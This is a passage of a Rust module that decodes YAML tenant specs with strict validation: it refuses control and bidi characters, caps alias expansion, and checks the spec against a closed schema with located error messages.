//! YAML decoding of a tenant spec: the only module in the crate that uses a YAML crate.
//!
//! Owns: the encoding checks on the raw text, the serde-saphyr options (budgets, duplicate and
//! merge keys, tags), the closed schema (unknown keys with the nearest valid key, missing keys,
//! strict YAML types) and the line/column/key path of every value. Produces a [`RawSpec`] for
//! `validate`; makes no semantic decisions itself. Pure: no file system, no environment.
//!
//! How strict typing works: serde-saphyr builds a tree of the document (one
//! `Spanned<RawNode>` per node, so every node has a line and column), and a second pass over
//! the parser's events records each scalar's style (plain, quoted, block) and any explicit
//! tag. A string field accepts a quoted or block scalar, or a plain scalar that neither YAML
//! 1.2 nor YAML 1.1 would read as anything but a string: `tenant: no`, `base: 0755`,
//! `on_calendar: 2024-01-01`, `tenant: ~` and `tenant: 1e3` are errors that say how YAML would
//! read the value and how to quote it (security-cases §4 "YAML 1.1 typing"). Booleans are only
//! the plain words `true` and `false`. Numbers are plain decimals.

use std::collections::BTreeMap;
use std::fmt;

use serde::de::{Deserialize, Deserializer, MapAccess, SeqAccess, Visitor};
use serde_saphyr::budget::BudgetBreach;
use serde_saphyr::granit_parser::{Event, Parser, ScalarStyle};
use serde_saphyr::options::{DuplicateKeyPolicy, MergeKeyPolicy, NonFiniteFloatPolicy};
use serde_saphyr::{Error as YamlError, Spanned};

use super::Diagnostic;
use super::validate::{
    Located, Pos, RawAgent, RawDelivery, RawEgress, RawGate, RawHealth, RawImage, RawMount,
    RawRepo, RawResources, RawSchedule, RawService, RawSpec, RawTask, nearest,
};

/// Most anchors (`&a`) and, separately, most aliases (`*a`) a spec may use (security-cases §4:
/// "limits on alias count (≤100)").
pub const MAX_ALIASES: usize = 100;
/// Deepest nesting of mappings and sequences. The schema needs 4 levels; 32 leaves room.
pub const MAX_DEPTH: usize = 32;
/// Most nodes replayed from aliases in total: stops billion-laughs inputs before they grow.
pub const MAX_ALIAS_REPLAY_EVENTS: usize = 10_000;

/// Decodes a spec text into the unchecked model.
///
/// Returns `Err` with the diagnostics when the text cannot be read as one YAML mapping at all
/// (encoding, syntax, budgets, tags). Otherwise returns the model and the schema diagnostics
/// (unknown, duplicate or missing keys, wrong YAML types): fields with a problem are `None`
/// in the model, so validation can still check everything else.
///
/// # Errors
/// The fatal diagnostics, as above.
pub fn decode(text: &str) -> Result<(RawSpec, Vec<Diagnostic>), Vec<Diagnostic>> {
    let text_problems = check_text(text);
    if !text_problems.is_empty() {
        return Err(text_problems);
    }
    // The event pass runs first so every explicit tag is reported where it is written; it
    // does not expand aliases, so it is linear in the (size-capped) text.
    let facts = event_facts(text);
    if !facts.tags.is_empty() {
        return Err(facts.tags);
    }
    let root = parse_tree(text).map_err(|e| {
        let mut d = yaml_error(&e);
        if let (Some(line), Some(column)) = (d.line, d.column) {
            d.path = facts.path_at(line, column);
        }
        vec![d]
    })?;
    let root = Node::from_spanned(root, text, &facts.styles);
    if matches!(root.value, Value::Null) {
        return Err(vec![
            Diagnostic::at(root.line, root.column, "", "the spec is empty")
                .hint("a spec needs at least `tenant`, `repo`, `task`, `agent` and `gate`"),
        ]);
    }
    let mut d = Decoder { out: Vec::new() };
    let raw = d.spec(&root);
    match raw {
        Some(raw) => Ok((raw, d.out)),
        None => Err(d.out),
    }
}

// ---------------------------------------------------------------------------------------------
// Text checks
// ---------------------------------------------------------------------------------------------

/// Classes of characters refused anywhere in a spec, each reported once (first occurrence,
/// with a count).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum BadChar {
    Bom,
    CarriageReturn,
    TabIndent,
    Tab,
    Control,
    Format,
}

/// Bidirectional and invisible formatting characters (Trojan Source, CVE-2021-42574), plus
/// the Unicode line and paragraph separators that YAML 1.1 parsers treat as line breaks.
fn is_format_char(c: char) -> bool {
    matches!(c,
        '\u{061C}' | '\u{200B}'..='\u{200F}' | '\u{2028}' | '\u{2029}' | '\u{202A}'..='\u{202E}'
        | '\u{2060}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}')
}

/// Whether `c` is a C0 control (other than `\n`), DEL or a C1 control.
fn is_control_char(c: char) -> bool {
    c != '\n' && c.is_control()
}

/// A short name for a refused character, e.g. `U+202E (right-to-left override)`.
fn char_name(c: char) -> String {
    let name = match c {
        '\0' => "null",
        '\t' => "tab",
        '\r' => "carriage return",
        '\n' => "line feed",
        '\u{1b}' => "escape",
        '\u{7f}' => "delete",
        '\u{200B}' => "zero-width space",
        '\u{200C}' => "zero-width non-joiner",
        '\u{200D}' => "zero-width joiner",
        '\u{200E}' => "left-to-right mark",
        '\u{200F}' => "right-to-left mark",
        '\u{202A}' => "left-to-right embedding",
        '\u{202B}' => "right-to-left embedding",
        '\u{202C}' => "pop directional formatting",
        '\u{202D}' => "left-to-right override",
        '\u{202E}' => "right-to-left override",
        '\u{2066}' => "left-to-right isolate",
        '\u{2067}' => "right-to-left isolate",
        '\u{2068}' => "first strong isolate",
        '\u{2069}' => "pop directional isolate",
        '\u{FEFF}' => "byte-order mark",
        '\u{2028}' => "line separator",
        '\u{2029}' => "paragraph separator",
        _ => "",
    };
    if name.is_empty() {
        format!("U+{:04X}", u32::from(c))
    } else {
        format!("U+{:04X} ({name})", u32::from(c))
    }
}

/// Checks the raw text: no byte-order mark, no CR (CRLF line endings), no tabs (for
/// indentation or anywhere else), no other C0/C1 control characters, no bidi or invisible
/// formatting characters (security-cases §4 "Encoding", "Newline in any value"). Reports the
/// first occurrence of each class with its line and column.
#[must_use]
pub fn check_text(text: &str) -> Vec<Diagnostic> {
    let mut first: BTreeMap<BadChar, (usize, usize, char, usize)> = BTreeMap::new();
    for (line_idx, line) in text.split('\n').enumerate() {
        let mut indent = true;
        for (col_idx, c) in line.chars().enumerate() {
            let class = if c == '\u{FEFF}' && line_idx == 0 && col_idx == 0 {
                Some(BadChar::Bom)
            } else if c == '\r' {
                Some(BadChar::CarriageReturn)
            } else if c == '\t' && indent {
                Some(BadChar::TabIndent)
            } else if c == '\t' {
                Some(BadChar::Tab)
            } else if is_control_char(c) {
                Some(BadChar::Control)
            } else if is_format_char(c) {
                Some(BadChar::Format)
            } else {
                None
            };
            if c != ' ' && c != '\t' {
                indent = false;
            }
            if let Some(class) = class {
                first.entry(class).and_modify(|e| e.3 += 1).or_insert((
                    line_idx + 1,
                    col_idx + 1,
                    c,
                    1,
                ));
            }
        }
    }
    first
        .into_iter()
        .map(|(class, (line, col, c, count))| {
            let more = if count > 1 {
                format!(" ({} more in the file)", count - 1)
            } else {
                String::new()
            };
            let (message, hint) = match class {
                BadChar::Bom => (
                    "the file starts with a byte-order mark (U+FEFF)".to_owned(),
                    "save the file as UTF-8 without a BOM",
                ),
                BadChar::CarriageReturn => (
                    format!("carriage return (CRLF line ending){more}"),
                    "convert the file to LF line endings, e.g. `dos2unix FILE`",
                ),
                BadChar::TabIndent => (
                    format!("tab used for indentation{more}"),
                    "indent with spaces",
                ),
                BadChar::Tab => (
                    format!("tab character{more}"),
                    "replace the tab with spaces",
                ),
                BadChar::Control => (
                    format!("control character {}{more}", char_name(c)),
                    "remove the character",
                ),
                BadChar::Format => (
                    format!(
                        "invisible or bidirectional formatting character {}{more}",
                        char_name(c)
                    ),
                    "remove the character: it makes the text display differently from what it is",
                ),
            };
            Diagnostic::at(line, col, "", message).hint(hint)
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// serde-saphyr: the document tree with locations
// ---------------------------------------------------------------------------------------------

/// The serde-saphyr options: budgets sized for a 256 KiB spec, duplicate keys forwarded to
/// [`RawNode`] (which records both lines), merge keys and unknown tags refused, non-finite
/// floats kept as text (so `.inf` in a string field gets the "quote it" message).
fn options() -> serde_saphyr::Options {
    serde_saphyr::options! {
        budget: serde_saphyr::budget! {
            max_reader_input_bytes: Some(256 * 1024),
            max_events: 100_000,
            max_aliases: MAX_ALIASES,
            max_anchors: MAX_ALIASES,
            max_depth: MAX_DEPTH,
            flow_nesting_limit: MAX_DEPTH,
            max_documents: 1,
            max_nodes: 50_000,
            max_total_scalar_bytes: 1 << 20,
            max_merge_keys: 0,
        },
        alias_limits: serde_saphyr::alias_limits! {
            max_total_replayed_events: MAX_ALIAS_REPLAY_EVENTS,
            max_replay_stack_depth: 8,
            max_alias_expansions_per_anchor: MAX_ALIASES,
        },
        duplicate_keys: DuplicateKeyPolicy::PassThrough,
        merge_keys: MergeKeyPolicy::Error,
        reject_unsupported_tags: true,
        reject_tagged_field_names: true,
        non_finite_float_policy: NonFiniteFloatPolicy::AsString,
        with_snippet: false,
    }
}

/// A YAML node as serde-saphyr infers it. Scalar values other than strings are not kept: the
/// decoder reads numbers and booleans from the source text itself.
#[derive(Debug)]
enum RawNode {
    Null,
    Bool,
    Int,
    Float,
    Str(String),
    Seq(Vec<Spanned<RawNode>>),
    Map(Vec<(Spanned<RawNode>, Spanned<RawNode>)>),
}

struct RawNodeVisitor;

impl<'de> Visitor<'de> for RawNodeVisitor {
    type Value = RawNode;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("any YAML node")
    }
    fn visit_unit<E>(self) -> Result<RawNode, E> {
        Ok(RawNode::Null)
    }
    fn visit_none<E>(self) -> Result<RawNode, E> {
        Ok(RawNode::Null)
    }
    fn visit_some<D: Deserializer<'de>>(self, d: D) -> Result<RawNode, D::Error> {
        RawNode::deserialize(d)
    }
    fn visit_bool<E>(self, _: bool) -> Result<RawNode, E> {
        Ok(RawNode::Bool)
    }
    fn visit_i64<E>(self, _: i64) -> Result<RawNode, E> {
        Ok(RawNode::Int)
    }
    fn visit_u64<E>(self, _: u64) -> Result<RawNode, E> {
        Ok(RawNode::Int)
    }
    fn visit_i128<E>(self, _: i128) -> Result<RawNode, E> {
        Ok(RawNode::Int)
    }
    fn visit_u128<E>(self, _: u128) -> Result<RawNode, E> {
        Ok(RawNode::Int)
    }
    fn visit_f64<E>(self, _: f64) -> Result<RawNode, E> {
        Ok(RawNode::Float)
    }
    fn visit_str<E>(self, v: &str) -> Result<RawNode, E> {
        Ok(RawNode::Str(v.to_owned()))
    }
    fn visit_string<E>(self, v: String) -> Result<RawNode, E> {
        Ok(RawNode::Str(v))
    }
    fn visit_bytes<E>(self, v: &[u8]) -> Result<RawNode, E> {
        Ok(RawNode::Str(String::from_utf8_lossy(v).into_owned()))
    }
    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<RawNode, A::Error> {
        let mut items = Vec::new();
        while let Some(item) = seq.next_element()? {
            items.push(item);
        }
        Ok(RawNode::Seq(items))
    }
    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<RawNode, A::Error> {
        let mut entries = Vec::new();
        while let Some(key) = map.next_key()? {
            let value = map.next_value()?;
            entries.push((key, value));
        }
        Ok(RawNode::Map(entries))
    }
}

impl<'de> Deserialize<'de> for RawNode {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        d.deserialize_any(RawNodeVisitor)
    }
}

/// Parses the text into a located tree.
fn parse_tree(text: &str) -> Result<Spanned<RawNode>, YamlError> {
    serde_saphyr::from_str_with_options::<Spanned<RawNode>>(text, options())
}

/// A diagnostic for a serde-saphyr error: its location and a message naming the limit or rule.
fn yaml_error(e: &YamlError) -> Diagnostic {
    let (line, column) = e.location().map_or((None, None), |l| {
        (
            usize::try_from(l.line()).ok().filter(|n| *n > 0),
            usize::try_from(l.column()).ok().filter(|n| *n > 0),
        )
    });
    let mut inner = e;
    while let YamlError::AliasError { error, .. } | YamlError::WithSnippet { error, .. } = inner {
        inner = error;
    }
    let (message, hint) = yaml_error_text(inner);
    Diagnostic {
        line,
        column,
        path: String::new(),
        message,
        hint: Some(hint.to_owned()),
    }
}

fn yaml_error_text(e: &YamlError) -> (String, &'static str) {
    const NO_ALIASES: &str =
        "write the values out instead of using anchors (`&a`) and aliases (`*a`)";
    match e {
        YamlError::AliasReplayLimitExceeded { .. }
        | YamlError::AliasExpansionLimitExceeded { .. }
        | YamlError::AliasReplayStackDepthExceeded { .. } => (
            format!(
                "aliases expand to too many nodes (billion-laughs style input; limit {MAX_ALIAS_REPLAY_EVENTS} replayed nodes)"
            ),
            NO_ALIASES,
        ),
        YamlError::MergeKeyNotAllowed { .. } => (
            "merge keys (`<<`) are not allowed".into(),
            "write the keys out in full",
        ),
        YamlError::UnsupportedTag { tag, .. } => (
            format!("YAML tags are not allowed (`{tag}`)"),
            "remove the tag; quote the value if it is a string",
        ),
        YamlError::Budget { breach, .. } => match breach {
            BudgetBreach::Aliases { .. } => {
                (format!("more than {MAX_ALIASES} aliases"), NO_ALIASES)
            }
            BudgetBreach::Anchors { .. } => {
                (format!("more than {MAX_ALIASES} anchors"), NO_ALIASES)
            }
            BudgetBreach::AliasAnchorRatio { .. } => (
                "too many aliases per anchor (billion-laughs style input)".into(),
                NO_ALIASES,
            ),
            BudgetBreach::Depth { .. } => (
                format!("nesting deeper than {MAX_DEPTH} levels"),
                "a spec is at most a few levels deep; check the brackets and indentation",
            ),
            BudgetBreach::Documents { .. } => (
                "more than one YAML document (`---`)".into(),
                "keep one tenant spec per file",
            ),
            BudgetBreach::MergeKeys { .. } => (
                "merge keys (`<<`) are not allowed".into(),
                "write the keys out in full",
            ),
            other => (
                format!("the document is too large ({other:?})"),
                "a tenant spec is a short file; move long task text to `task.file`",
            ),
        },
        other => {
            let text = other.to_string();
            // The parser's own nesting guard (flow collections) surfaces as a parser error
            // whose text is its only distinguishing mark.
            if text.starts_with("recursion limit exceeded") {
                return (
                    format!("nesting deeper than {MAX_DEPTH} levels"),
                    "a spec is at most a few levels deep; check the brackets and indentation",
                );
            }
            let message = match text.find(" at line ") {
                Some(i) => &text[..i],
                None => text.as_str(),
            };
            (
                format!("invalid YAML: {message}"),
                "fix the YAML syntax at this position",
            )
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Parser events: scalar styles and tags
// ---------------------------------------------------------------------------------------------

/// How a scalar was written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Style {
    /// Unquoted: YAML infers its type.
    Plain,
    /// Single- or double-quoted, or a `|`/`>` block: always a string.
    Quoted,
}

/// What one pass over the parser's events tells the decoder.
#[derive(Debug, Default)]
struct EventFacts {
    /// Scalar styles keyed by (1-based line, 1-based column) of the scalar.
    styles: BTreeMap<(usize, usize), Style>,
    /// The key path of every node, keyed by its (1-based line, 1-based column): names the key
    /// in errors that serde-saphyr reports by position only.
    paths: BTreeMap<(usize, usize), String>,
    /// One diagnostic per explicit tag (`!!str`, `!!int`, `!foo`: none are allowed).
    tags: Vec<Diagnostic>,
}

impl EventFacts {
    /// The key path of the last node that starts on `line` at or before `column`; empty when
    /// no node starts there (e.g. a `---` line).
    fn path_at(&self, line: usize, column: usize) -> String {
        self.paths
            .range((line, 0)..=(line, column))
            .next_back()
            .map(|(_, p)| p.clone())
            .unwrap_or_default()
    }
}

/// An open collection while walking events.
struct Frame {
    path: String,
    /// For a mapping: the key whose value comes next (`None`: a key comes next).
    /// For a sequence: unused.
    key: Option<String>,
    /// For a sequence: the index of the next item.
    index: Option<usize>,
    /// Whether this collection is itself a mapping key.
    is_key: bool,
}

/// The path of the node that comes next, and whether it is a mapping key.
fn next_path(stack: &[Frame], scalar: &str) -> (String, bool) {
    match stack.last() {
        None => (String::new(), false),
        Some(Frame {
            path,
            index: Some(i),
            ..
        }) => (format!("{path}[{i}]"), false),
        Some(Frame {
            path, key: None, ..
        }) => (child(path, scalar), true),
        Some(Frame {
            path, key: Some(k), ..
        }) => (child(path, k), false),
    }
}

/// Moves the innermost collection past a finished node.
fn finish_node(stack: &mut [Frame], text: &str, was_key: bool) {
    if let Some(top) = stack.last_mut() {
        match &mut top.index {
            Some(i) => *i += 1,
            None => top.key = was_key.then(|| text.to_owned()),
        }
    }
}

/// Walks the parser's events once: scalar styles, node paths, tags.
fn event_facts(text: &str) -> EventFacts {
    let mut facts = EventFacts::default();
    let mut stack: Vec<Frame> = Vec::new();
    for event in Parser::new_from_str(text) {
        // On a syntax error stop quietly: serde-saphyr reports it next, with its message.
        let Ok((event, span)) = event else { break };
        let at = (span.start.line(), span.start.col() + 1);
        let (tag, path) = match &event {
            Event::Scalar(value, style, _, tag) => {
                let style = if matches!(style, ScalarStyle::Plain) {
                    Style::Plain
                } else {
                    Style::Quoted
                };
                facts.styles.insert(at, style);
                let (path, is_key) = next_path(&stack, value);
                finish_node(&mut stack, value, is_key);
                (tag.as_ref().map(ToString::to_string), path)
            }
            Event::Alias(_) => {
                let (path, is_key) = next_path(&stack, "*");
                finish_node(&mut stack, "*", is_key);
                (None, path)
            }
            Event::SequenceStart(_, _, tag) | Event::MappingStart(_, _, tag) => {
                let (path, is_key) = next_path(&stack, "?");
                let is_seq = matches!(event, Event::SequenceStart(..));
                stack.push(Frame {
                    path: path.clone(),
                    key: None,
                    index: is_seq.then_some(0),
                    is_key,
                });
                (tag.as_ref().map(ToString::to_string), path)
            }
            Event::SequenceEnd | Event::MappingEnd => {
                if let Some(done) = stack.pop() {
                    finish_node(&mut stack, "?", done.is_key);
                }
                continue;
            }
            _ => continue,
        };
        // The innermost node at a position wins (a block mapping starts where its first key does).
        facts.paths.insert(at, path.clone());
        if let Some(resolved) = tag {
            let tag_at = span.tag_start.unwrap_or(span.start);
            // Name the tag as written (`!!str`), not as resolved (`tag:yaml.org,2002:str`).
            let tag = tag_at
                .byte_offset()
                .and_then(|o| text.get(o..))
                .and_then(|rest| rest.split(|c: char| c.is_whitespace() || c == ',').next())
                .filter(|t| t.starts_with('!'))
                .map_or(resolved, str::to_owned);
            facts.tags.push(
                Diagnostic::at(
                    tag_at.line(),
                    tag_at.col() + 1,
                    &path,
                    format!("YAML tags are not allowed (`{tag}`)"),
                )
                .hint("remove the tag; quote the value if it is a string"),
            );
        }
    }
    facts
}

// ---------------------------------------------------------------------------------------------
// The located tree the schema decoder walks
// ---------------------------------------------------------------------------------------------

#[derive(Debug)]
enum Value {
    Null,
    Bool,
    Int,
    Float,
    Str(String),
    Seq(Vec<Node>),
    Map(Vec<(Node, Node)>),
}

#[derive(Debug)]
struct Node {
    value: Value,
    /// 1-based line where the node is used (for an alias: the `*a`).
    line: usize,
    /// 1-based column where the node is used.
    column: usize,
    /// Scalar style of the node's definition.
    style: Style,
    /// The scalar as written in the source (for messages and number parsing).
    raw: String,
}

impl Node {
    fn from_spanned(
        s: Spanned<RawNode>,
        text: &str,
        styles: &BTreeMap<(usize, usize), Style>,
    ) -> Node {
        let line = usize::try_from(s.referenced.line()).unwrap_or(0);
        let column = usize::try_from(s.referenced.column()).unwrap_or(0);
        let def = (
            usize::try_from(s.defined.line()).unwrap_or(0),
            usize::try_from(s.defined.column()).unwrap_or(0),
        );
        let span = s.defined.span();
        let source = span
            .byte_offset()
            .zip(span.byte_len())
            .and_then(|(o, l)| {
                let o = usize::try_from(o).ok()?;
                let l = usize::try_from(l).ok()?;
                text.get(o..o.checked_add(l)?)
            })
            .unwrap_or_default()
            .to_owned();
        let style = styles.get(&def).copied().unwrap_or(Style::Plain);
        let (value, raw) = match s.value {
            RawNode::Null => (Value::Null, source),
            RawNode::Bool => (Value::Bool, source),
            RawNode::Int => (Value::Int, source),
            RawNode::Float => (Value::Float, source),
            RawNode::Str(v) => (Value::Str(v.clone()), v),
            RawNode::Seq(items) => (
                Value::Seq(
                    items
                        .into_iter()
                        .map(|i| Node::from_spanned(i, text, styles))
                        .collect(),
                ),
                String::new(),
            ),
            RawNode::Map(entries) => (
                Value::Map(
                    entries
                        .into_iter()
                        .map(|(k, v)| {
                            (
                                Node::from_spanned(k, text, styles),
                                Node::from_spanned(v, text, styles),
                            )
                        })
                        .collect(),
                ),
                String::new(),
            ),
        };
        Node {
            value,
            line,
            column,
            style,
            raw,
        }
    }

    /// What the node is, for "found ..." messages.
    fn kind(&self) -> String {
        match &self.value {
            Value::Null if self.raw.is_empty() => "an empty value".into(),
            Value::Null => format!("null `{}`", self.raw),
            Value::Bool => format!("boolean `{}`", self.raw),
            Value::Int => format!("integer `{}`", self.raw),
            Value::Float => format!("float `{}`", self.raw),
            Value::Str(s) if s.chars().count() > 40 || s.contains('\n') => "a string".into(),
            Value::Str(s) => format!("string \"{}\"", s.escape_debug()),
            Value::Seq(_) => "a sequence".into(),
            Value::Map(_) => "a mapping".into(),
        }
    }

    fn diag(&self, path: &str, message: impl Into<String>) -> Diagnostic {
        Diagnostic::at(self.line, self.column, path, message)
    }

    fn located<T>(&self, path: &str, value: T) -> Located<T> {
        Located {
            value,
            line: self.line,
            column: self.column,
            path: path.to_owned(),
        }
    }
}

/// How YAML reads a plain scalar that is not a string: `(kind, who, reading)`, e.g.
/// `("boolean", "YAML 1.1", "false")` for `no`. `None` when every YAML version reads it as a
/// string. Covers YAML 1.2 core and YAML 1.1 (booleans y/n/yes/no/on/off, octal `0755`, binary,
/// underscores, base 60, timestamps).
fn plain_reading(raw: &str) -> Option<(&'static str, &'static str, String)> {
    const Y11: &str = "YAML 1.1";
    const Y: &str = "YAML";
    match raw {
        "~" | "null" | "Null" | "NULL" => return Some(("null", Y, "null (no value)".into())),
        "true" | "True" | "TRUE" => return Some(("boolean", Y, "true".into())),
        "false" | "False" | "FALSE" => return Some(("boolean", Y, "false".into())),
        "y" | "Y" | "yes" | "Yes" | "YES" | "on" | "On" | "ON" => {
            return Some(("boolean", Y11, "true".into()));
        }
        "n" | "N" | "no" | "No" | "NO" | "off" | "Off" | "OFF" => {
            return Some(("boolean", Y11, "false".into()));
        }
        _ => {}
    }
    let unsigned = raw.strip_prefix(['-', '+']).unwrap_or(raw);
    let lower = unsigned.to_ascii_lowercase();
    if matches!(lower.as_str(), ".inf") {
        return Some(("float", Y, "infinity".into()));
    }
    if matches!(unsigned, ".nan" | ".NaN" | ".NAN") {
        return Some(("float", Y, "not-a-number".into()));
    }
    let radix = |digits: &str, base: u32| -> Option<String> {
        let clean: String = digits.chars().filter(|c| *c != '_').collect();
        (!clean.is_empty())
            .then(|| u128::from_str_radix(&clean, base).ok())
            .flatten()
            .map(|n| n.to_string())
    };
    if let Some(hex) = unsigned.strip_prefix("0x") {
        return radix(hex, 16).map(|n| ("integer", Y, n));
    }
    if let Some(oct) = unsigned.strip_prefix("0o") {
        return radix(oct, 8).map(|n| ("integer", Y, n));
    }
    if let Some(bin) = unsigned.strip_prefix("0b") {
        return radix(bin, 2).map(|n| ("integer", Y11, n));
    }
    let digits_ = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_ascii_digit() || c == '_');
    let digits = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_ascii_digit());
    if digits(unsigned) {
        if unsigned.len() > 1
            && unsigned.starts_with('0')
            && let Some(n) = radix(unsigned, 8)
        {
            return Some(("integer", Y11, format!("octal {n}")));
        }
        return Some(("integer", Y, unsigned.trim_start_matches('0').to_owned()));
    }
    if digits_(unsigned) && unsigned.starts_with(|c: char| c.is_ascii_digit()) {
        return radix(unsigned, 10).map(|n| ("integer", Y11, n));
    }
    if let Some(kind) = base60(unsigned) {
        return Some((kind, Y11, "a base-60 number".into()));
    }
    if is_timestamp(raw) {
        return Some(("date", Y11, "a timestamp".into()));
    }
    // Floats: YAML 1.2 core `[-+]?(\.[0-9]+|[0-9]+(\.[0-9]*)?)([eE][-+]?[0-9]+)?`, and 1.1's
    // underscores.
    let (mantissa, exponent) = match lower.split_once('e') {
        Some((m, e)) => (m, Some(e)),
        None => (lower.as_str(), None),
    };
    let exp_ok = exponent.is_none_or(|e| digits(e.strip_prefix(['-', '+']).unwrap_or(e)));
    let (int, frac) = match mantissa.split_once('.') {
        Some((i, f)) => (i, Some(f)),
        None => (mantissa, None),
    };
    let mantissa_ok = match frac {
        Some(f) => {
            (int.is_empty() || digits_(int))
                && (f.is_empty() || digits_(f))
                && !(int.is_empty() && f.is_empty())
        }
        None => digits_(int) && exponent.is_some(),
    };
    if mantissa_ok && exp_ok {
        let clean: String = raw.chars().filter(|c| *c != '_').collect();
        let reading = clean
            .parse::<f64>()
            .ok()
            .filter(|f| f.is_finite())
            .map_or_else(|| "a number".to_owned(), |f| f.to_string());
        let who = if raw.contains('_') { Y11 } else { Y };
        return Some(("float", who, reading));
    }
    None
}

fn all_digits(s: &str) -> bool {
    !s.is_empty() && s.chars().all(|c| c.is_ascii_digit())
}

fn digits_underscores(s: &str) -> bool {
    s.starts_with(|c: char| c.is_ascii_digit()) && s.chars().all(|c| c.is_ascii_digit() || c == '_')
}

/// YAML 1.1 base-60 numbers: `1:20` (integer 80), `1:20.5` (float). Returns the kind.
fn base60(unsigned: &str) -> Option<&'static str> {
    let (head, rest) = unsigned.split_once(':')?;
    let parts: Vec<&str> = rest.split(':').collect();
    let (last, mids) = parts.split_last()?;
    let (last_int, frac) = match last.split_once('.') {
        Some((i, f)) => (i, Some(f)),
        None => (*last, None),
    };
    let sixty = |p: &str| all_digits(p) && p.len() <= 2 && p.parse::<u32>().is_ok_and(|n| n < 60);
    let ok = digits_underscores(head)
        && mids.iter().all(|p| sixty(p))
        && sixty(last_int)
        && frac.is_none_or(|f| f.chars().all(|c| c.is_ascii_digit() || c == '_'));
    ok.then_some(if frac.is_some() { "float" } else { "integer" })
}

/// YAML 1.1 timestamps: `2024-01-01`, `2024-1-1`, `2024-01-01T02:00:00Z`, `2024-01-01 02:00`.
fn is_timestamp(raw: &str) -> bool {
    let mut parts = raw.splitn(3, '-');
    let (Some(year), Some(month), Some(rest)) = (parts.next(), parts.next(), parts.next()) else {
        return false;
    };
    let day: String = rest.chars().take_while(char::is_ascii_digit).collect();
    let tail = &rest[day.len()..];
    year.len() == 4
        && all_digits(year)
        && (1..=2).contains(&month.len())
        && all_digits(month)
        && (1..=2).contains(&day.len())
        && (tail.is_empty() || tail.starts_with(['T', 't', ' ']) && tail.contains(':'))
}

/// How a string field is meant to be written, for the fix in a type error.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum StrKind {
    /// A one-line string.
    Line,
    /// Text that may span lines (`task.text`).
    Text,
    /// A duration such as `30m`.
    Duration,
    /// A size such as `2G`.
    Size,
}

// ---------------------------------------------------------------------------------------------
// The closed schema
// ---------------------------------------------------------------------------------------------

const TOP_KEYS: &[&str] = &[
    "tenant",
    "repo",
    "tier",
    "worktree_isolation",
    "task",
    "agent",
    "gate",
    "egress",
    "mounts",
    "services",
    "schedule",
    "delivery",
];
const REPO_KEYS: &[&str] = &["path", "base"];
const TASK_KEYS: &[&str] = &["text", "file"];
const AGENT_KEYS: &[&str] = &[
    "image",
    "unpinned_local_image",
    "command",
    "env",
    "timeout",
    "resources",
];
const RESOURCE_KEYS: &[&str] = &["memory", "cpus", "pids"];
const GATE_KEYS: &[&str] = &[
    "image",
    "unpinned_local_image",
    "command",
    "quick",
    "timeout",
];
const EGRESS_KEYS: &[&str] = &["allow", "ports", "report_only"];
const MOUNT_KEYS: &[&str] = &["source", "target", "read_only"];
const SERVICE_KEYS: &[&str] = &[
    "name",
    "image",
    "unpinned_local_image",
    "command",
    "env",
    "port",
    "data",
    "health",
];
const HEALTH_KEYS: &[&str] = &["command", "interval", "timeout", "retries", "start_period"];
const SCHEDULE_KEYS: &[&str] = &["on_calendar", "persistent", "randomized_delay"];
const DELIVERY_KEYS: &[&str] = &[
    "remote",
    "branch",
    "push",
    "allow_paths",
    "hold_paths",
    "lock_wait",
];

/// `parent.key`, or `key` at the top.
fn child(parent: &str, key: &str) -> String {
    if parent.is_empty() {
        key.to_owned()
    } else {
        format!("{parent}.{key}")
    }
}

/// The entries of one mapping, by schema key.
struct Fields<'a> {
    at: &'a Node,
    path: String,
    entries: BTreeMap<&'static str, &'a Node>,
}

struct Decoder {
    out: Vec<Diagnostic>,
}

impl Decoder {
    /// Checks that `node` is a mapping with only `keys`, each at most once.
    fn mapping<'a>(
        &mut self,
        node: &'a Node,
        path: &str,
        keys: &[&'static str],
    ) -> Option<Fields<'a>> {
        let Value::Map(entries) = &node.value else {
            self.out.push(
                node.diag(
                    path,
                    format!(
                        "expected a mapping (`key: value` lines), found {}",
                        node.kind()
                    ),
                )
                .hint(format!("valid keys here: {}", keys.join(", "))),
            );
            return None;
        };
        let mut seen: BTreeMap<String, usize> = BTreeMap::new();
        let mut fields = BTreeMap::new();
        for (k, v) in entries {
            // Shown escaped: a quoted key may hold `\n` or other escapes.
            let name = match &k.value {
                Value::Str(s) => s.escape_debug().to_string(),
                _ => k.raw.clone(),
            };
            let key_path = child(path, &name);
            if let Some(first) = seen.get(&name) {
                self.out.push(
                    k.diag(
                        &key_path,
                        format!("duplicate key `{name}` (first defined at line {first})"),
                    )
                    .hint("remove one of them: YAML keys must be unique"),
                );
                continue;
            }
            seen.insert(name.clone(), k.line);
            if let Some(known) = keys.iter().find(|known| **known == name) {
                fields.insert(*known, v);
            } else {
                let hint = match nearest(&name, keys) {
                    Some(n) => format!("did you mean `{n}`?"),
                    None => format!("valid keys here: {}", keys.join(", ")),
                };
                self.out.push(
                    k.diag(&key_path, format!("unknown key `{name}`"))
                        .hint(hint),
                );
            }
        }
        Some(Fields {
            at: node,
            path: path.to_owned(),
            entries: fields,
        })
    }

    /// The value of `key`; reports it as missing when `required`.
    fn get<'a>(&mut self, f: &Fields<'a>, key: &'static str, required: bool) -> Option<&'a Node> {
        let node = f.entries.get(key).copied();
        if node.is_none() && required {
            let path = child(&f.path, key);
            let example = match path.as_str() {
                "tenant" => "`tenant: NAME` (a-z, 0-9, `-`)",
                "repo" => "`repo:` with `path` and `base`",
                "repo.path" => "`path: ~/src/PROJECT` (the git work tree)",
                "repo.base" => "`base: main` (the branch or commit runs start from)",
                "task" => "`task:` with `text: |` or `file: PATH`",
                "agent" | "gate" => "the container: `image`, `command`",
                "agent.command" | "gate.command" => "`command: [PROGRAM, ARG, ...]`",
